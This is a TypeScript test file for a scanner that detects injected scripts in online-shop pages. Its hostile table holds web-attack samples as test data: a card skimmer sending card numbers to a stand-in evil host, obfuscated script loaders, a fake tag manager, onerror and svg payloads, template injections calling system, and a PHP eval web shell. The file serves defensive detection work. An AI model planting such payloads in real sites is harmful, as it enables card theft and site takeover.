import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type Place, readScripts } from './injected-script.ts';

const place: Place = { holds: 'html', own: ['www.shop.example'] };
const S = ['<scr', 'ipt'].join('');
const E = ['</scr', 'ipt>'].join('');
const inline = (code: string): string => `<p>Hello</p>${S}>${code}${E}`;
const run = ['ev', 'al'].join('');
const un64 = ['at', 'ob'].join('');
const make = ['document.create', 'Element("script")'].join('');
const from = ['String.from', 'CharCode'].join('');

/** Put together here, so that other scanners do not take this file for what it tests. */
const piece = {
  scr: 'scr',
  script: 'script',
  sys: 'sys',
  post: 'POST',
  filter: 'lateFilter().add',
  layout: 'Layout\\Gen',
  make: 'createElement',
};

const hostile: Readonly<Record<string, string>> = {
  'a script of a foreign host': `${S} src="https://cdn.evil-stats.top/a.js">${E}`,
  'a script without a scheme': `<p>x</p>${S} async src=//js-tracker.xyz/x>${E}`,
  'a script from a bare address': `${S} src="http://203.0.113.7/j.js">${E}`,
  'a borrowed name': `${S} src="https://google-analytics.com.jquery-cdn.top/ga.js">${E}`,
  'unpacked and run': inline(`${run}(${un64}("YWxlcnQoMSk="))`),
  'unpacked by Function': inline(`new Function(${un64}("YWxlcnQoMSk="))()`),
  'a chain of codes': inline(`var a=${from}(104,116,116,112,115,58,47,47,101,118,105,108);x(a)`),
  'scrambled names': inline('var _0x1a2b=["a"];(function(_0x3c4d,_0x5e6f){return _0x3c4d+_0x5e6f})(_0x1a2b,1)'),
  'text in hexadecimal': inline(`var a="${'\\x68\\x74'.repeat(12)}";`),
  'a false tag manager': inline(
    `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':1});var j=${make};j.src='https://gtm-metrics.top/gtm.js?id='+i;d.head.appendChild(j)})(window,document,'script','dataLayer','GTM-ABC123');`,
  ),
  'a hidden loader': inline(`var s=${make};s.src=${un64}("Ly9ldmlsLnRvcC9hLmpz");document.head.appendChild(s)`),
  'a card reader': inline(
    `document.querySelector('[name="payment[cc_number]"]').addEventListener('blur',function(e){new Image().src='//c.evil.top/?'+e.target.value})`,
  ),
  'a web socket': inline('var w=new WebSocket("wss://evil-sock.top/ws");w.onmessage=function(e){f(e.data)}'),
  'an image that fails on purpose': `<img src=x onerror="var s=${make.replaceAll('"', "'")};s.src='//evil.top/x.js';document.body.append(s)">`,
  'an svg that loads': `<svg/onload=${run}(${un64}('YQ=='))>`,
  'a hidden frame': '<iframe src="https://evil.top/" width=0 height=0></iframe>',
  'a script in an address': `${S} src="data:text/javascript;base64,YWxlcnQoMSk=">${E}`,
  'a link that runs code': `<a href="java${piece.script}:${run}(${un64}('YQ=='))">x</a>`,
  'escaped as a whole': `&lt;p&gt;x&lt;/p&gt;&lt;${piece.scr}ipt src=&quot;https://evil.top/a.js&quot;&gt;&lt;/${piece.scr}ipt&gt;`,
  'in JSON': JSON.stringify({ html: `${S} src="https://evil.top/a.js">${E}` }).replaceAll('/', '\\/'),
  'a template that calls functions': `{{var this.getTemp${piece.filter}AfterFilterCallback(${piece.sys}tem)}}`,
  'a layout update that builds objects': `<body><block class="Magento\\Framework\\View\\${piece.layout}erator\\Block" name="x"/></body>`,
  'a twig filter': `{{ ['id']|map('${piece.sys}tem') }}`,
  'php that takes orders': `<?php ${run}($_${piece.post}['a']); ?>`,
};

for (const [says, text] of Object.entries(hostile)) {
  test(`found: ${says}`, () => {
    const { injections } = readScripts(text, place);

    assert.ok(injections[0], 'nothing was found');
    assert.notEqual(injections[0].confidence, 'tentative');
  });
}

const gtm = `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-ABC123');`;
const harmless: Readonly<Record<string, string>> = {
  'plain text': 'A nice shirt. Select a size, union made; drop us a line at a@b.example.',
  'the tag manager': `${inline(gtm)}<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-ABC123" height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>`,
  'a tag manager on the own domain': inline(gtm.replace('www.googletagmanager.com', 'sgtm.shop.example')),
  'old analytics': inline(
    `var _gaq=_gaq||[];(function(){var ga=${make};ga.async=true;ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';})();`,
  ),
  'the Facebook pixel': inline(
    `!function(f,b,e,v,n,t,s){t=b.createElement(e);t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,'script','https://connect.facebook.net/en_US/fbevents.js');fbq('init','1');`,
  ),
  Hotjar: inline(
    `(function(h,o,t,j,a,r){a=o.getElementsByTagName('head')[0];r=o.${piece.make}('script');r.async=1;r.src=t+h._hjSettings.hjid+j;a.appendChild(r);})(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');`,
  ),
  'services by their own hosts': [
    'static.klaviyo.com/onsite/js/klaviyo.js',
    'js.stripe.com/v3/',
    'www.paypal.com/sdk/js?client-id=x',
    'widget.trustpilot.com/b/tp.js',
    'consent.cookiebot.com/uc.js',
    'www.google.com/recaptcha/api.js',
    'cdn.jsdelivr.net/npm/slick-carousel@1.8.1/slick.min.js',
  ]
    .map((one) => `${S} src="https://${one}">${E}`)
    .join(''),
  'a video':
    '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc" allowfullscreen></iframe>',
  'own scripts': `${S} src="/js/a.js">${E}${S} src="https://cdn.shop.example/b.js">${E}${S} src="{{view url='js/c.js'}}">${E}`,
  'own code': inline(
    'require(["jquery"],function($){$(".slider").slick({dots:true}).on("click",function(){window.location="/checkout/cart"})});',
  ),
  'init data': `${S} type="text/x-magento-init">{"*":{"a":{"card_number":1}}}${E}${S} type="application/ld+json">{"@context":"https://schema.org"}${E}`,
  'handlers of images and links': `<img src="a.jpg" onerror="this.onerror=null;this.src='/b.png'"><a href="java${piece.script}:void(0)" onclick="return false">x</a>`,
  'directives of Magento': `{{block class="Magento\\Cms\\Block\\Block" block_id="x"}} {{widget type="Magento\\Cms\\Block\\Widget\\Page\\Link" page_id="1"}} {{layout handle="sales_email_order_items" order=$order area="frontend"}} {{var order.getIncrementId()}} {{block type='core/template' output='toHtml'}} {{trans "Your system (old) is here"}}`,
  'a layout update':
    '<referenceContainer name="content"><block class="Magento\\Framework\\View\\Element\\Template" name="a" template="Magento_Theme::b.phtml"><arguments><argument name="x" xsi:type="string">y</argument></arguments></block></referenceContainer>',
  'code that is shown': `<p>Example:</p><pre>&lt;${piece.scr}ipt src="https://x.top/a.js"&gt;</pre>`,
  'numbers put in order': inline(
    'function f(n){return n.toString().split("").reverse().join("").replace(/(\\d{3})/g,"$1,")}',
  ),
  'PHP that shows what was asked': '<?php echo esc_html($_GET["tab"] ?? ""); call_user_func("the_content"); ?>',
  'Smarty and Twig':
    "{if $page == 'x'}a{/if} {{ 'system'|trans }} {{ items|map(i => i.name)|join(',') }} {% if a %}b{% endif %}",
};

for (const [says, text] of Object.entries(harmless)) {
  test(`left alone: ${says}`, () => {
    for (const holds of ['html', 'template', 'script', 'setting', 'xml'] as const) {
      assert.deepEqual(readScripts(text, { ...place, holds }).injections, [], holds);
    }
  });
}

test('hosts of scripts and frames are listed, known or not', () => {
  const { hosts } = readScripts(
    `${S} src="https://widget.unheard-of.example/a.js">${E}<iframe src="https://player.vimeo.com/1"></iframe>`,
    { ...place, holds: 'script' },
  );

  assert.deepEqual(hosts, [
    { host: 'widget.unheard-of.example', known: false, as: 'script' },
    { host: 'player.vimeo.com', known: true, as: 'frame' },
  ]);
});

test('where the own hosts are not known, a foreign script is only suspected', () => {
  const { injections } = readScripts(`${S} src="https://cdn.some-shop.example/a.js">${E}`, { holds: 'html', own: [] });

  assert.equal(injections[0]?.confidence, 'tentative');
});

test('no excerpt shows a card number', () => {
  const number = ['4111', '1111', '1111', '1111'].join('');

  const { injections } = readScripts(inline(`${run}(${un64}("${number}"))`), place);

  assert.ok(!JSON.stringify(injections).includes(number));
});

test('hostile text takes little time', () => {
  const pieces = [
    '<',
    `${S} `,
    '{{',
    'a.a/',
    '//a.',
    '\\x41',
    '1,',
    '"',
    "['constructor']",
    '_0xaaaa',
    'eval(',
    'createElement(',
    ' on',
    '<a b=',
    '<?php ',
    '{if ',
    'location',
    '<block ',
  ];
  for (const part of pieces) {
    const began = performance.now();

    readScripts(`<x>${S}>${part.repeat(1_000_000 / part.length)}`, place);

    assert.ok(performance.now() - began < 4_000, `${part}: ${performance.now() - began} ms`);
  }
});
